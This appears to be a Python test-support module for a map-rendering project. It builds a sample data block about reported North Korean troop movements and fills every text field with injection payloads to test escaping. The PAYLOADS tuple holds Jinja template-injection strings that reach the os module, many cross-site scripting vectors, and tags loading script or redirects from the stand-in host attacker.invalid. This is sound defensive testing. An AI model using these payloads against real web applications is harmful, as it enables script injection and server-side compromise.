"""Texts that try to run, and a data block in which every text field is one of them.

A block is attacked by walking it: whatever is a text in it is replaced, so a field that is added later is
attacked as well. The block is as many whole copies of a small one as there are texts, so that every field
holds each of them once.
"""

from __future__ import annotations

import copy
from collections.abc import Callable, Iterator
from typing import Any

from geomoves.wording import page_words

MARK = "__pwned"
_RUN = f"window.{MARK}=1"
_TAG = f"<script>{_RUN}</script>"
_IMG = f"<img src=x onerror={_RUN}>"
_HOST = "https://attacker.invalid"

PAYLOADS: tuple[str, ...] = (
    # Jinja, which branca compiles a second time
    "{{7*191}}",
    "{% for n in range(1) %}{{7*191}}{% endfor %}",
    "{# gone #}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').environ.update(GEOMOVES_PWNED='1') }}",
    "{{ cycler.__init__.__globals__.os.environ.update(GEOMOVES_PWNED='1') }}",
    "{% set x = 7*191 %}{{ x }}",
    "{{",
    "{%",
    "{#",
    # JavaScript strings and templates
    f"${{{_RUN}}}",
    f"`+({_RUN})+`",
    "`",
    f"';{_RUN};//",
    f'";{_RUN};//',
    f"\\';{_RUN};//",
    f"*/{_RUN}/*",
    r"\2019",
    r"\x3cscript\x3e\u003cscript\u003e",
    f"a\u2028{_RUN}\u2029b",
    "\\",
    # the ends of elements
    f"</script>{_TAG}",
    f"</SCRIPT/x>{_TAG}",
    f"</style>{_TAG}",
    f"</title>{_TAG}",
    f"</textarea>{_TAG}",
    f"</noscript>{_TAG}",
    f"</template></iframe></xmp>{_TAG}",
    "<!--",
    f"<!--<script>{_RUN}",
    f"-->{_TAG}",
    f"<![CDATA[{_TAG}]]>",
    # elements that run
    _TAG,
    _IMG,
    f"'\"><svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<details open ontoggle={_RUN}>x</details>",
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    f"<iframe src=javascript:parent.{MARK}=1></iframe>",
    f"<video><source onerror={_RUN}></video>",
    f"<input autofocus onfocus={_RUN}>",
    f'" autofocus onfocus={_RUN} x="',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    f'<noscript><p title="</noscript>{_IMG}">',
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    # what would load
    f"<img src={_HOST}/p.png>",
    f"<script src={_HOST}/x.js></script>",
    f"<link rel=stylesheet href={_HOST}/x.css>",
    f'<meta http-equiv=refresh content="0;url={_HOST}/">',
    f"<base href={_HOST}/>",
    f"<style>@import url({_HOST}/x.css);</style>",
    f"url({_HOST}/x.png)",
    # addresses
    f"javascript:{_RUN}",
    f"JaVa\tScRiPt:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"data:text/html,{_TAG}",
    "https://example.org@attacker.invalid/",
    "https://attacker.invalid\\@example.org/",
    "https://example.org/\u202efdp.exe",
    # formats and names that mean something to a program
    "{0.__class__}{title}%s%(title)s",
    "$& $1 $` $'",
    "__proto__",
    "constructor",
    '{"a":[1,{"b":null}]}',
    "%3Cscript%3E",
    # characters
    "\u202edetrever\u202c \u2066isolated",
    "nul\x00l <scr\x00ipt>" + _RUN + "</scr\x00ipt>",
    "half a pair \ud800",
    "\N{ZERO WIDTH JOINER}\N{COMBINING ACUTE ACCENT}\N{MAN}\N{ZERO WIDTH JOINER}\N{WOMAN}",
    "Ж 청진 عربي",
)

# Fields whose values are words of the contract: the page draws by them. Under `CLOSED` they stay, so that
# everything is drawn; without it they are attacked too.
CLOSED = {
    ("format",),
    ("language",),
    ("claims", "kind"),
    ("claims", "phase"),
    ("claims", "stance"),
    ("claims", "when_how"),
    ("claims", "responses", "heading"),
    ("places", "roles", "role"),
    ("areas", "roles", "role"),
    ("legs", "phase"),
    ("legs", "stub"),
    ("legs", "support"),
    ("legs", "how"),
    ("presences", "phase"),
    ("presences", "support"),
    ("presences", "how"),
    ("events", "kind"),
    ("events", "phase"),
    ("events", "support"),
    ("events", "how"),
    ("story", "select"),
    ("story", "layers"),
    ("strip", "stance"),
    ("tray", "table"),
}
_PARTS = {  # names for the places of small lists, so that CLOSED can name them
    ("places", "roles"): ("role", "basis", "text", "claim"),
    ("areas", "roles"): ("role", "basis", "text", "claim"),
    ("claims", "responses"): ("claim", "heading"),
    ("strip",): ("claim", "stance", "text", "said"),
    ("tray",): ("table", "row", "why"),
}
# Which table the row numbers of a field count in.
_REFERENCES = {
    ("evidence", "made_by"): "speakers",
    ("evidence", "read_by"): "speakers",
    ("evidence", "document"): "documents",
    ("forces", "part_of"): "forces",
    ("claims", "force"): "forces",
    ("claims", "said_by"): "speakers",
    ("claims", "through"): "speakers",
    ("claims", "document"): "documents",
    ("claims", "questions"): "questions",
    ("claims", "evidence"): "evidence",
    ("claims", "responses"): "claims",
    ("claims", "links"): "claims",
    ("questions", "figures"): "claims",
    ("presences", "share_basis"): "claims",
    ("strip",): "claims",
    ("off_map",): "claims",
    ("independence",): "claims",
} | {
    (table, column): target
    for table in ("places", "areas", "legs", "presences", "events", "questions")
    for column, target in {
        "force": "forces",
        "roles": "claims",
        "claims": "claims",
        "held_by": "claims",
        "from": "places",
        "to": "places",
        "place": "places",
        "places": "places",
        "from_area": "areas",
        "to_area": "areas",
        "area": "areas",
        "areas": "areas",
    }.items()
}


def plain_block() -> dict[str, Any]:
    """A block with something in every field and every kind of thing on the map."""
    counted = {"low": [1500], "best": [1500], "high": [1500], "strength": ["1,500 soldiers"]}
    dated = {"day_from": [20004], "day_to": [20009], "how": ["within"], "when": ["8–13 October 2024"]}
    return {
        "format": "geomoves-block/2",
        "generator": "geomoves 0.1.0",
        "title": "Soldiers moved, as reported",
        "as_of": "18 October 2024",
        "as_of_day": 20014,
        "language": "en",
        "credits": [["Leaflet, BSD-2-Clause", "https://leafletjs.com"]],
        "words": page_words(),
        "view": [123.6, 37.1, 140.2, 50.4],
        "days": [20004, 20014],
        "largest": 1500,
        "widest_px": 7,
        "speakers": {
            "id": ["service", "spokesman"],
            "name": ["National Intelligence Service", "A spokesman"],
            "country": ["KR", "RU"],
            "named": [True, False],
            "party": [False, True],
            "note": ["one of two services", ""],
        },
        "documents": {
            "id": ["page"],
            "title": ["A report"],
            "citation": ["A newspaper, 18 October 2024"],
            "url": ["https://example.org/report"],
            "archived": ["https://archive.example.org/report"],
            "published": ["18 October 2024"],
            "author": ["a reporter"],
            "publisher": ["a newspaper"],
            "language": ["ko"],
            "not_taken": ["the meeting in Seoul"],
            "assumes": ["that the images are new"],
            "note": ["read in print"],
        },
        "evidence": {
            "id": ["image"],
            "kind": ["image"],
            "label": ["satellite image"],
            "made_by": [0],
            "captured": ["12 October 2024"],
            "read_by": [0],
            "document": [0],
            "seen": [False],
            "sha256": ["0" * 64],
            "url": ["https://example.org/image"],
            "note": ["not shown"],
        },
        "forces": {
            "id": ["all", "first"],
            "name": ["North Korean soldiers", "the first 1,500"],
            "country": ["KP", "KP"],
            "echelon": ["brigade", "battalion"],
            "part_of": [-1, 0],
            "note": ["all of them", "so called here"],
        },
        "claims": {
            "id": ["crossing", "denial"],
            "kind": ["movement", "response"],
            "phase": ["happened", ""],
            "stance": ["", "denies"],
            "force": [1, -1],
            "said_by": [0, 1],
            "through": [[1], []],
            "attribution": ["stated", "stated"],
            "document": [0, 0],
            "sentence": ["The service says that 1,500 went to Vladivostok.", "A spokesman denies it."],
            "words": ["carried 1,500 soldiers", "not true"],
            "hedge": ["indications of", "as far as known"],
            "note": ["by ship", "the week before"],
            "condition": ["in uniform", "none"],
            "said": ["18 October 2024", "7–13 October 2024"],
            "said_from": [20014, 20003],
            "said_to": [20014, 20009],
            "when": ["8–13 October 2024", "not stated"],
            "when_from": [20004, None],
            "when_to": [20009, None],
            "when_how": ["within", ""],
            "strength": ["1,500 soldiers", "number not stated"],
            "questions": [[0], [0]],
            "evidence": [[0], []],
            "responses": [[[1, "earlier"]], []],
            "links": [[["tension", 1, "both can be true"]], []],
            "about": [[], ["the crossing"]],
            "off_map": ["", "it is a response"],
        },
        "places": {
            "id": ["geonames:1", "geonames:2"],
            "name": ["Vladivostok", "Ussuriysk"],
            "label": ["Vladivostok", "Ussuriysk"],
            "lon": [131.87, 131.95],
            "lat": [43.11, 43.8],
            "kind": ["city", "city"],
            "country": ["RU", "RU"],
            "admin1": ["Primorye", "Primorye"],
            "precision": [1, 5],
            "radius_km": [0, 30],
            "soft": [False, True],
            "bend": [False, False],
            "unnamed": [False, False],
            "roles": [
                [["destination", "said", "to Vladivostok", 0], ["transit", "author", "a port of landing", 0]],
                [["staging", "author", "stationed and in training", 0]],
            ],
            "claims": [[0, 1], [0]],
            "chosen": [["the only one in the theatre"], ["the nearest"]],
            "not_chosen": [["Vladivostok (elsewhere)"], ["Ussuriysk (elsewhere)"]],
            "held_by": [[["held by Russia", 0]], []],
            "claimants": ["RU, UA", "RU"],
            "source": ["GeoNames", "GeoNames"],
        },
        "areas": {
            "id": ["iso:KP"],
            "name": ["North Korea"],
            "code": ["KP"],
            "rings": [[[124500, 38000, 5000, 0, 0, 4000, -5000, 0]]],
            "label_lon": [127],
            "label_lat": [40],
            "roles": [[["origin", "said", "North Korea has sent", 0]]],
            "claims": [[0]],
            "scale": [1000],
        },
        "legs": {
            "id": ["leg-1", "leg-2"],
            "force": [1, 1],
            "force_name": ["the first 1,500", "the first 1,500"],
            "phase": ["happened", "expected"],
            "mode": ["by sea", "by road"],
            "carried_by": ["Russian naval vessels", "lorries"],
            "from": [-1, 0],
            "to": [0, 1],
            "from_words": ["origin not stated", "from there"],
            "to_words": ["to the port", "inland"],
            "from_area": [-1, -1],
            "to_area": [-1, -1],
            "path": [[[131.87, 43.11]], [[131.87, 43.11], [131.95, 43.8]]],
            "stub": ["from", ""],
            "support": ["one", "corroborated"],
            "disputed": [True, False],
            **{name: [*values, *values] for name, values in (counted | dated).items()},
            "part_of": [False, True],
            "inferred": [False, True],
            "claims": [[0], [0]],
        },
        "presences": {
            "id": ["presence-1"],
            "force": [1],
            "phase": ["happened"],
            "places": [[0, 1]],
            "areas": [[0]],
            "one_of": [False],
            "label": ["one body in two places"],
            "share": ["part of 1,500"],
            "share_basis": [[0]],
            "support": ["one"],
            "disputed": [True],
            **counted,
            **dated,
            "claims": [[0]],
        },
        "events": {
            "id": ["loss-1", "activity-1"],
            "kind": ["loss", "activity"],
            "place": [0, 1],
            "area": [-1, -1],
            "force": [1, 0],
            "label": ["six killed", "gathering"],
            "phase": ["happened", "happened"],
            "support": ["one", "several"],
            "disputed": [False, False],
            **{name: [*values, *values] for name, values in (counted | dated).items()},
            "claims": [[0], [0]],
        },
        "questions": {
            "id": ["war"],
            "text": ["Taking part in the war?"],
            "note": ["asked in two ways"],
            "reason": ["named in the dossier"],
            "support": ["one voice"],
            "sentence": ["One voice says 1,500."],
            "figures": [[["1,500", [0]], ["none", [1]]]],
            "claims": [[0, 1]],
            "contested": [True],
        },
        "story": {
            "text": ["It begins at the port.", "Everything that was said."],
            "view": [[130, 42, 134, 45], None],
            "day_from": [20004, None],
            "day_to": [20009, None],
            "said": [20014, None],
            "select": [["claims", 0], None],
            "layers": [["happened"], None],
        },
        "strip": [[1, "denies", "A spokesman denies that they take part.", "7–13 October 2024"]],
        "off_map": [[1, "it is a response"], [0, "no place is stated"]],
        "independence": [[0, 1, "each has seen it"]],
        "corrections": [["old", "The service said that they went by rail.", "20 October 2024", "misread"]],
        "tray": [["legs", 1, "after the training"]],
        "symbols": [["<svg xmlns='http://www.w3.org/2000/svg'></svg>", 47.2, 47.2, 23.6, 23.6, "infantry"]],
        "force_symbols": [[0, 0], [0, 0]],
        "symbols_seen": [["hostile", ["KP"]]],
        "changes_since": "12 October 2024",
        "changes": [
            ["new", "claims", "crossing", 0, -1, "", "", "movement to Vladivostok", "", ""],
            ["changed", "documents", "page", -1, -1, "title", "A page", "A news page", "", ""],
            ["retracted", "claims", "crossing", 0, 1, "", "before", "after", "20 October 2024", "misread"],
        ],
    }


def plain_basemap() -> dict[str, Any]:
    """A basemap with a little of everything."""
    square = [120000, 35000, 25000, 0, 0, 20000, -25000, 0, 0, -20000]
    return {
        "scale": 1000,
        "window": [110000, 30000, 150000, 60000],
        "land": [square],
        "lakes": [[132810, 45052, -67, -109, -129, -232]],
        "lake_ranks": [0],
        "rivers": [[136812, 50000, -41, -85, -1, -65]],
        "river_ranks": [3],
        "borders": [[130500, 42300, 100, 100]],
        "border_classes": ["international"],
        "borders_left_out": 0,
        "provinces": [[130500, 45300, 1000, 1000]],
        "province_sizes": [90],
        "cities": [["Vladivostok", 131.87, 43.11, 3, 600000, "RU", 0]],
        "world": {
            "scale": 20,
            "land": [[-180, 0, 100, 0, 0, 100]],
            "borders": [[-100, 10, 20, 20]],
            "border_classes": ["international"],
        },
        "point_of_view": {"key": "default", "label": "as Natural Earth has it", "column": "FCLASS"},
        "credits": [{"text": "Natural Earth", "url": "https://www.naturalearthdata.com"}],
    }


def multiplied(block: dict[str, Any], times: int) -> dict[str, Any]:
    """The block `times` over: every table that many times as long, each copy pointing into itself."""
    lengths = {name: len(table["id"]) for name, table in block.items() if _is_table(table)}
    out = copy.deepcopy(block)
    for name, table in block.items():
        if _is_table(table):
            for column, values in table.items():
                target = lengths.get(_REFERENCES.get((name, column), ""), 0)
                out[name][column] = [
                    _shifted(value, nth * target) for nth in range(times) for value in copy.deepcopy(values)
                ]
        elif (name,) in _REFERENCES:
            target = lengths[_REFERENCES[name,]]
            out[name] = [_shifted(row, nth * target) for nth in range(times) for row in table]
    out["credits"] = block["credits"] * times
    out["corrections"] = block["corrections"] * times
    out["changes"] = block["changes"] * times
    out["story"] = {name: column * times for name, column in block["story"].items()}
    out["symbols"] = block["symbols"] * times
    out["force_symbols"] = [[nth, nth] for nth in range(times) for _force in block["force_symbols"]]
    out["symbols_seen"] = block["symbols_seen"] * times
    out["tray"] = [
        [table, row + nth * lengths[table], why] for nth in range(times) for table, row, why in block["tray"]
    ]
    return out


def attacked(data: Any, *, keep: set[tuple[str, ...]] = CLOSED, by: tuple[str, ...] = PAYLOADS) -> Any:
    """`data` with every text in it replaced, but those of the fields that `keep` names.

    The n-th row of a column gets the n-th payload: every field gets each one when there are rows enough.
    """
    turn: dict[tuple[str, ...], int] = {}

    def replace(path: tuple[str, ...], text: str) -> str:
        if path in keep or path[:1] in keep:
            return text
        turn[path] = turn.get(path, -1) + 1
        return by[turn[path] % len(by)]

    return _walked(data, (), replace)


def texts(data: Any) -> Iterator[tuple[tuple[str, ...], str]]:
    """Every text in `data` with the field that it is in."""
    found: list[tuple[tuple[str, ...], str]] = []

    def note(path: tuple[str, ...], text: str) -> str:
        found.append((path, text))
        return text

    _walked(data, (), note)
    return iter(found)


def _walked(data: Any, path: tuple[str, ...], replace: Callable[[tuple[str, ...], str], str]) -> Any:
    if isinstance(data, str):
        return replace(path, data)
    if isinstance(data, dict):
        return {key: _walked(value, (*path, key), replace) for key, value in data.items()}
    if isinstance(data, list | tuple):
        names = _PARTS.get(path, ())
        if names and len(data) == len(names) and not isinstance(data[0], list):
            return [_walked(value, (*path, name), replace) for name, value in zip(names, data, strict=True)]
        return [_walked(value, path, replace) for value in data]
    return data


def _is_table(data: Any) -> bool:
    return isinstance(data, dict) and "id" in data


def _shifted(value: Any, by: int) -> Any:
    if isinstance(value, list):
        return [_shifted(each, by) for each in value]
    if isinstance(value, int) and not isinstance(value, bool) and value >= 0:
        return value + by
    return value
